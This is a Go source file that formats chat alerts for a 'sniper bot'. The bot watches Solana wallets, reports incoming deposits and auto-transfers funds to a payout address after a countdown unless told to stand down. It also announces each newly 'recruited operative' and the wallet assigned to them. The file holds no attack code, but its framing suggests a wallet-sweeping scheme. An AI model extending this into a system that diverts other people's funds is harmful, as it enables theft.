package notifier

import (
	"context"
	"fmt"
	"strings"
	"time"

	"github.com/birdeye-sniper/sniper_service/internal/domain/entities"
)

// Callback prefixes on deposit alert buttons
const (
	ActionDeploy    = "deploy"
	ActionStandDown = "standdown"
)

const timestampLayout = "2006-01-02 15:04:05 MST"

var markdownEscaper = strings.NewReplacer("_", "\\_", "*", "\\*", "`", "\\`", "[", "\\[")

// EscapeMarkdown escapes free text for legacy Markdown messages
func EscapeMarkdown(s string) string {
	return markdownEscaper.Replace(s)
}

// DepositKeyboard offers the manual dispositions for a deposit on address
func DepositKeyboard(address string) *entities.Keyboard {
	return entities.NewKeyboard(entities.Row(
		entities.Btn("🚀 DEPLOY ASSETS", ActionDeploy+":"+address),
		entities.Btn("🛑 STAND DOWN", ActionStandDown+":"+address),
	))
}

func (s *Service) depositText(event *entities.DepositEvent) string {
	var b strings.Builder
	b.WriteString("🚨 *TARGET ACQUIRED* 🚨\n\n")
	fmt.Fprintf(&b, "🎯 *WALLET:* `%s`\n", event.Address)
	fmt.Fprintf(&b, "👤 *OPERATIVE:* %s\n", EscapeMarkdown(event.OwnerContact))
	if event.Watchers > 1 {
		fmt.Fprintf(&b, "👥 *WATCHERS:* %d\n", event.Watchers)
	}
	fmt.Fprintf(&b, "💰 *INCOMING ASSETS:* +%s\n", s.FormatSOL(event.Delta))
	fmt.Fprintf(&b, "💼 *NEW BALANCE:* %s\n", s.FormatSOL(event.NewBalance))
	fmt.Fprintf(&b, "⏰ *TIMESTAMP:* %s\n\n", event.DetectedAt.UTC().Format(timestampLayout))
	b.WriteString("🔍 _ANALYZING TRANSACTION DATA..._")
	return b.String()
}

func (s *Service) detailsText(details *entities.TransactionDetails, autoTransferIn time.Duration) string {
	var b strings.Builder
	b.WriteString("📊 *TRANSACTION INTEL*\n")
	if details == nil {
		b.WriteString("⚠️ Transaction details unavailable\n")
	} else {
		fmt.Fprintf(&b, "🔗 *SIGNATURE:* `%s`\n", details.Signature)
		fmt.Fprintf(&b, "💸 *NETWORK FEE:* %s SOL\n", details.Fee.StringFixed(6))
		if details.Timestamp != nil {
			fmt.Fprintf(&b, "🕒 *BLOCK TIME:* %s\n", details.Timestamp.UTC().Format(timestampLayout))
		}
		if details.Description != "" {
			fmt.Fprintf(&b, "📝 *INTEL:* %s\n", EscapeMarkdown(details.Description))
		}
	}
	if autoTransferIn > 0 {
		fmt.Fprintf(&b, "\n⏳ Auto-deploy to the payout address in %d minutes unless ordered otherwise.\n", int(autoTransferIn.Minutes()))
	}
	b.WriteString("\n*AWAITING ORDERS*")
	return b.String()
}

func (s *Service) transferText(result *entities.TransferResult) string {
	var b strings.Builder
	if result.Succeeded() {
		b.WriteString("💸 *TRANSACTION ✅ SUCCESSFUL*\n\n")
	} else {
		b.WriteString("💸 *TRANSACTION ❌ FAILED*\n\n")
	}

	mode := "MANUAL DEPLOYMENT"
	if result.Kind == entities.TransferKindAuto {
		mode = "AUTO-DEPLOY"
	}
	fmt.Fprintf(&b, "🤖 *MODE:* %s\n", mode)
	fmt.Fprintf(&b, "📤 *SOURCE:* `%s`\n", result.From)
	fmt.Fprintf(&b, "📥 *TARGET:* `%s`\n", result.To)
	fmt.Fprintf(&b, "💰 *AMOUNT:* %s\n", s.FormatSOL(result.Amount))
	if result.Signature != "" {
		fmt.Fprintf(&b, "🔗 *SIGNATURE:* `%s`\n", result.Signature)
	}
	if result.Err != nil {
		fmt.Fprintf(&b, "⚠️ *ERROR:* %s\n", EscapeMarkdown(result.Err.Error()))
	}
	fmt.Fprintf(&b, "⏰ *TIMESTAMP:* %s", result.CompletedAt.UTC().Format(timestampLayout))
	return b.String()
}

// AnnounceStartup broadcasts that the bot is online
func (s *Service) AnnounceStartup(ctx context.Context, address string, wallets int) {
	text := fmt.Sprintf("🟢 *SNIPER BOT ONLINE*\n\n"+
		"🎯 *MONITORING:* `%s`\n"+
		"👥 *ACTIVE TARGETS:* %d\n"+
		"💲 *SOL PRICE:* $%s\n"+
		"⏰ *TIMESTAMP:* %s\n\n"+
		"All systems operational. Standing by for targets.",
		address, wallets, s.Price().StringFixed(2), s.now().UTC().Format(timestampLayout))
	if _, err := s.SendBroadcast(ctx, text, nil); err != nil {
		s.logger.Warn("Failed to announce startup", "error", err)
	}
}

// AnnounceShutdown broadcasts that the bot is going offline
func (s *Service) AnnounceShutdown(ctx context.Context) {
	text := fmt.Sprintf("🔴 *SNIPER BOT OFFLINE*\n\n"+
		"Monitoring suspended at %s.\nStand by for redeployment.",
		s.now().UTC().Format(timestampLayout))
	if _, err := s.SendBroadcast(ctx, text, nil); err != nil {
		s.logger.Warn("Failed to announce shutdown", "error", err)
	}
}

// AnnounceRecruit broadcasts a completed setup
func (s *Service) AnnounceRecruit(ctx context.Context, user *entities.User) {
	text := fmt.Sprintf("🎖 *NEW OPERATIVE RECRUITED*\n\n"+
		"👤 *CODENAME:* %s\n"+
		"📧 *CONTACT:* %s\n"+
		"🎯 *ASSIGNED WALLET:* `%s`\n"+
		"⏰ *ENLISTED:* %s",
		EscapeMarkdown(user.DisplayName()), EscapeMarkdown(user.Contact()), user.LinkedAddress,
		s.now().UTC().Format(timestampLayout))
	if _, err := s.SendBroadcast(ctx, text, nil); err != nil {
		s.logger.Warn("Failed to announce recruit", "user_id", user.ID, "error", err)
	}
}
